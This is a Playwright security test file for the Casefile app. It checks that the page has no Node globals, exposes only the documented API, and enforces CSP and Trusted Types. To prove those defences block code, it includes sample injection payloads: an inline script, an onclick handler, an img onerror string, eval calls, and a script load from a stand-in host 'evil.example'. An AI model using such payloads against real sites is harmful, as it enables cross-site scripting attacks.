/**
 * What a script running in the page could reach: no Node globals, no API beyond the
 * documented CasefileApi methods, and a Content-Security-Policy that refuses inline script,
 * inline event handlers and eval, each refusal reported as a `securitypolicyviolation`, and
 * that requires Trusted Types: an HTML or script-URL string given to a DOM sink throws, and
 * no policy but the app's own two can be made.
 */
import type { ConsoleMessage, Page } from '@playwright/test'
import { createCasefileApi } from '../src/preload/create-api'
import { CASEFILE_API_METHODS } from '../src/shared/api-methods'
import { runCommand } from './commanding'
import { expect, test } from './fixtures'
import { chooseFiles, confirmSheet, importDialog } from './importing'
import { openSearch, resultGroup, searchDialog } from './searching'
import { openSource } from './workbench'

const documented = [...CASEFILE_API_METHODS].sort()

test('the page has no Node: require, process and module are undefined', async ({ app }) => {
  const kinds = await app.evaluate(() => ({
    require: typeof require,
    process: typeof process,
    module: typeof module,
  }))
  expect(kinds).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined' })
})

test('the web host puts no API on window: its CasefileApi stays inside the app’s modules', async ({
  app,
}, testInfo) => {
  test.skip(testInfo.project.name !== 'web', 'in Electron the preload exposes window.casefile')
  expect(await app.evaluate(() => 'casefile' in window)).toBe(false)
})

test('the desktop app exposes exactly the documented CasefileApi methods, all functions', async ({
  app,
}, testInfo) => {
  test.skip(testInfo.project.name !== 'electron', 'only Electron has a preload')
  const exposed = await app.evaluate(() => {
    const api = (window as unknown as { casefile: Record<string, unknown> }).casefile
    return Object.keys(api)
      .sort()
      .map((key) => [key, typeof api[key]])
  })
  expect(exposed).toEqual(documented.map((key) => [key, 'function']))
})

test('the preload builds exactly the documented CasefileApi methods', ({}, testInfo) => {
  // Plain Node, no window: checked once, in the project that always runs.
  test.skip(testInfo.project.name !== 'web', 'runs once, in the web project')
  const api = createCasefileApi(
    () => Promise.resolve({ ok: true, value: null }),
    () => () => undefined,
  )
  expect(Object.keys(api).sort()).toEqual(documented)
  expect(Object.values(api).every((value) => typeof value === 'function')).toBe(true)
})

/** A violation as the page reported it. */
interface Violation {
  violatedDirective: string
  effectiveDirective: string
  blockedURI: string
  disposition: string
}

/** How Chromium reports a string refused by a Trusted Types sink. */
const TRUSTED_TYPES_REFUSAL: Violation = {
  violatedDirective: 'require-trusted-types-for',
  effectiveDirective: 'require-trusted-types-for',
  blockedURI: 'trusted-types-sink',
  disposition: 'enforce',
}

/**
 * The app opened on the web host without the shared fixture, which fails a test on any CSP
 * violation or console error: these tests cause violations on purpose and check each one.
 * The page records every `securitypolicyviolation` in `window.__violations`. `injected`
 * markup is added to the end of the served page's body, as markup stored in it would be.
 */
async function openApp(
  page: Page,
  injected = '',
): Promise<{ consoleErrors: string[]; pageErrors: string[] }> {
  const consoleErrors: string[] = []
  const pageErrors: string[] = []
  page.on('console', (message: ConsoleMessage) => {
    if (message.type() === 'error') consoleErrors.push(message.text())
  })
  page.on('pageerror', (error) => pageErrors.push(error.message))
  await page.addInitScript(() => {
    const seen: unknown[] = []
    Object.defineProperty(window, '__violations', { value: seen })
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push({
        violatedDirective: event.violatedDirective,
        effectiveDirective: event.effectiveDirective,
        blockedURI: event.blockedURI,
        disposition: event.disposition,
      }),
    )
  })
  if (injected !== '') {
    await page.route(
      (url) => url.pathname === '/',
      async (route) => {
        const response = await route.fetch()
        const html = await response.text()
        expect(html).toContain('</body>')
        await route.fulfill({ response, body: html.replace('</body>', `${injected}</body>`) })
      },
    )
  }
  await page.goto('./')
  await page.locator('html[data-casefile-ready="true"]').waitFor({ state: 'attached' })
  return { consoleErrors, pageErrors }
}

const violations = (page: Page) =>
  page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations)

const pwned = (page: Page) =>
  page.evaluate(() => (window as { __pwned?: string }).__pwned ?? 'nothing ran')

// Playwright's own evaluate calls reach the page over the DevTools protocol, which the CSP
// does not govern; the sinks called inside them (a script element, an event handler
// attribute, eval) are the page's own and are governed by it, as an injected script's would be.
// With Trusted Types required, a script or handler made through the DOM is refused by them
// before script-src is asked (see 'Trusted Types' below), so script-src's own refusals are
// shown on markup in the served page, which the HTML parser reads without any sink.
test.describe('the Content-Security-Policy', () => {
  test.beforeEach(({}, testInfo) => {
    test.skip(testInfo.project.name !== 'web', 'opens the web host in Chromium')
  })

  test('refuses an inline script in the page, reports it, and the script does not run', async ({
    page,
  }) => {
    const { consoleErrors, pageErrors } = await openApp(
      page,
      "<script>window.__pwned = 'inline script'</script>",
    )
    await expect
      .poll(() => violations(page))
      .toEqual([
        {
          violatedDirective: 'script-src-elem',
          effectiveDirective: 'script-src-elem',
          blockedURI: 'inline',
          disposition: 'enforce',
        },
      ])
    expect(await pwned(page)).toBe('nothing ran')
    expect(consoleErrors).toEqual([
      expect.stringMatching(/inline script.*Content Security Policy.*script-src 'self'/),
    ])
    expect(pageErrors).toEqual([])
  })

  test('refuses an inline event handler an element in the page carries', async ({ page }) => {
    const { consoleErrors, pageErrors } = await openApp(
      page,
      `<button id="injected" onclick="window.__pwned = 'inline handler'">Injected</button>`,
    )
    await page.evaluate(() => document.getElementById('injected')?.click())
    await expect
      .poll(() => violations(page))
      .toEqual([
        {
          violatedDirective: 'script-src-attr',
          effectiveDirective: 'script-src-attr',
          blockedURI: 'inline',
          disposition: 'enforce',
        },
      ])
    expect(await pwned(page)).toBe('nothing ran')
    expect(consoleErrors).toEqual([
      expect.stringMatching(/inline event handler.*Content Security Policy.*script-src 'self'/),
    ])
    expect(pageErrors).toEqual([])
  })

  test('refuses eval and new Function with an EvalError, and reports each', async ({ page }) => {
    const { consoleErrors, pageErrors } = await openApp(page)
    // Scheduled, not called inline: DevTools lets code it evaluates use eval whatever the
    // CSP says, so the attempts run from a timer, as a page script's would.
    const thrown = await page.evaluate(
      () =>
        new Promise<string[]>((done) => {
          setTimeout(() => {
            const names: string[] = []
            const attacks = [
              () => globalThis.eval("window.__pwned = 'eval'"),
              () => new Function("window.__pwned = 'new Function'")(),
            ]
            for (const attack of attacks) {
              try {
                attack()
                names.push('ran')
              } catch (error) {
                names.push((error as Error).name)
              }
            }
            done(names)
          })
        }),
    )
    expect(thrown).toEqual(['EvalError', 'EvalError'])
    // A string of code is a TrustedScript sink: Trusted Types refuse it before script-src's
    // ban on eval is consulted, and either refusal is an EvalError.
    await expect.poll(async () => (await violations(page)).length).toBe(2)
    for (const violation of await violations(page)) expect(violation).toEqual(TRUSTED_TYPES_REFUSAL)
    expect(await pwned(page)).toBe('nothing ran')
    expect(consoleErrors).toEqual([
      expect.stringMatching(/requires 'TrustedScript' assignment/),
      expect.stringMatching(/requires 'TrustedScript' assignment/),
    ])
    expect(pageErrors).toEqual([])
  })
})

test.describe('Trusted Types', () => {
  test.beforeEach(({}, testInfo) => {
    test.skip(testInfo.project.name !== 'web', 'opens the web host in Chromium')
  })

  test('are required: an HTML string given to innerHTML throws and is reported', async ({
    page,
  }) => {
    const { consoleErrors, pageErrors } = await openApp(page)
    const thrown = await page.evaluate(
      () =>
        new Promise<string>((done) => {
          setTimeout(() => {
            try {
              document.createElement('div').innerHTML = '<img src=x onerror="window.__pwned=1">'
              done('assigned')
            } catch (error) {
              done((error as Error).name)
            }
          })
        }),
    )
    expect(thrown).toBe('TypeError')
    await expect.poll(() => violations(page)).toEqual([TRUSTED_TYPES_REFUSAL])
    expect(await pwned(page)).toBe('nothing ran')
    expect(consoleErrors).toEqual([expect.stringMatching(/requires 'TrustedHTML' assignment/)])
    expect(pageErrors).toEqual([])
  })

  test('a string of script or a script URL given to a script element or new Worker throws, even for the app’s own origin', async ({
    page,
  }) => {
    const { consoleErrors, pageErrors } = await openApp(page)
    const thrown = await page.evaluate(
      () =>
        new Promise<string[]>((done) => {
          setTimeout(() => {
            const attacks = [
              () => new Worker('./assets/attacker.js'),
              () => {
                document.createElement('script').src = 'https://evil.example/x.js'
              },
              () => {
                document.createElement('script').textContent = "window.__pwned = 'script text'"
              },
            ]
            done(
              attacks.map((attack) => {
                try {
                  attack()
                  return 'ran'
                } catch (error) {
                  return (error as Error).name
                }
              }),
            )
          })
        }),
    )
    expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError'])
    await expect.poll(async () => (await violations(page)).length).toBe(3)
    for (const violation of await violations(page)) expect(violation).toEqual(TRUSTED_TYPES_REFUSAL)
    expect(await pwned(page)).toBe('nothing ran')
    expect(consoleErrors).toEqual([
      expect.stringMatching(/requires 'TrustedScriptURL' assignment/),
      expect.stringMatching(/requires 'TrustedScriptURL' assignment/),
      expect.stringMatching(/requires 'TrustedScript' assignment/),
    ])
    expect(pageErrors).toEqual([])
  })

  test('only the app’s policies exist: no default policy, and no other or second policy can be made', async ({
    page,
  }) => {
    const { consoleErrors, pageErrors } = await openApp(page)
    const outcome = await page.evaluate(
      () =>
        new Promise<{ made: string[]; defaultPolicy: unknown }>((done) => {
          setTimeout(() => {
            const factory = (
              window as unknown as {
                trustedTypes: {
                  createPolicy(name: string, rules: object): unknown
                  defaultPolicy: unknown
                }
              }
            ).trustedTypes
            const made = ['casefile', 'default', 'passthrough'].map((name) => {
              try {
                factory.createPolicy(name, { createHTML: (html: string) => html })
                return 'created'
              } catch (error) {
                return (error as Error).name
              }
            })
            done({ made, defaultPolicy: factory.defaultPolicy })
          })
        }),
    )
    expect(outcome).toEqual({ made: ['TypeError', 'TypeError', 'TypeError'], defaultPolicy: null })
    await expect.poll(async () => (await violations(page)).length).toBe(3)
    for (const violation of await violations(page)) {
      expect(violation).toMatchObject({
        effectiveDirective: 'trusted-types',
        disposition: 'enforce',
      })
    }
    expect(consoleErrors).toEqual(
      ['casefile', 'default', 'passthrough'].map((name) =>
        expect.stringContaining(`Creating a TrustedTypePolicy named '${name}' violates`),
      ),
    )
    expect(pageErrors).toEqual([])
  })

  test('the app works under them: library, reader, importing a web page and a PDF, search and entities, with no violation', async ({
    page,
  }) => {
    test.slow()
    const { consoleErrors, pageErrors } = await openApp(page)
    await openSource(page, 'Seeking Stability')

    // The import worker reads both files; DOMPurify (its own policy) cleans the web page.
    await chooseFiles(page, ['pdf-report.pdf', 'html-windows-1252.html'])
    await confirmSheet(
      page,
      'pdf-report.pdf',
      'Water allocation in the delta: report of the commission',
    )
    await confirmSheet(
      page,
      'html-windows-1252.html',
      'Café owners count the cost of the harbour strike',
    )
    await expect(importDialog(page)).toContainText('2 of 2 files added to the library.')
    await importDialog(page).getByRole('link', { name: 'Café owners count the cost' }).click()
    await expect(importDialog(page)).toBeHidden()
    await expect(page.locator('article.document')).toContainText(
      'takings are down by as much as a third',
    )

    // The search worker answers.
    await openSearch(page)
    await page.keyboard.type('Marg Bar Sarmachar')
    await expect(resultGroup(page, 'Passages').getByRole('option').first()).toBeVisible({
      timeout: 20_000,
    })
    await page.keyboard.press('Escape')
    await expect(searchDialog(page)).toBeHidden()

    // The entity worker reads every source.
    await runCommand(page, 'go to entities', /Go to Entities/)
    const entities = page.getByRole('list', { name: 'Entities' })
    await expect(entities).toBeVisible({ timeout: 20_000 })
    await expect(page.locator('.en-progress')).toHaveText('', { timeout: 20_000 })
    await expect(entities.getByRole('link', { name: /^Hossein Amir-Abdollahian\b/ })).toBeVisible()

    expect(await violations(page)).toEqual([])
    expect(consoleErrors).toEqual([])
    expect(pageErrors).toEqual([])
  })
})
